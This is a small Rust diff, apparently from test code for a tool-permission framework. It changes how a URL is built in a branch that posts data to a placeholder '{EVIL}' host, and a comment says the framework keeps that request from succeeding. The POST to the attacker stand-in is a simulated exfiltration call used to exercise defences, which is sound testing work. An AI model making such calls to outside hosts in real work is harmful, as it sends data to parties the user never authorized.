@@ -12,7 +12,7 @@ use futures_util::{
 use http::Method;
 use jit_tools::{
     ApprovalWait, AuthorizationDetail, Clock as _, JitContext, PendingApproval, ResourceError, ToolContext, Toolset,
-    authority::TaskId, policy::Entitlement, tool::State, tools,
+    authority::TaskId, policy::Entitlement, tool::State, tools, url,
 };
 
 use crate::{
@@ -119,7 +119,7 @@ impl Program {
             }
             4 => Box::pin(async {
                 // Somebody had it call where it should not. What is asked for there is not obtained.
-                let _ = ToolContext::new(jit).http().post(format!("{EVIL}/notes/n0")).body("x").send().await;
+                let _ = ToolContext::new(jit).http().post(url!("{EVIL}/notes/n0")).body("x").send().await;
             }),
             _ => Box::pin(self.call(jit, self.a_call(operation))),
         };
